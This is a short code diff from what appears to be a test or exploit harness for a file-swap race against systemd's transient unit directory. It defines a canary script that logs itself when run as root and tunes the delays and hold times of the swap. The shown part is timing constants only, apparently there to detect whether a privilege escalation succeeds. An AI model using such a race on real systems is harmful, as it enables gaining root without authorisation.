@@ -26,9 +26,9 @@ CANARY = MEMORY / "canary"
 """Written by any program of the attacker's that finds itself running as root."""
 CANARY_PROGRAM = f'#!/bin/sh\n[ "$(id -u)" != 0 ] || echo "$0" >>{CANARY}\n'
 TRANSIENT = Path("/run/systemd/transient")
-HOLD_SECONDS = 1.0
+HOLD_SECONDS = 2.5
 """How long a swap lasts: a restore comes by within that time after its look."""
-DELAYS = (0.004, 0.02, 0.06, 0.2)
+DELAYS = (0.01, 0.05, 0.2, 0.6)
 """Seconds between a look and the swap, one after the other."""
 IN_OPEN, IN_ISDIR, EXCHANGE, AT_FDCWD = 0x20, 0x40000000, 2, -100
 
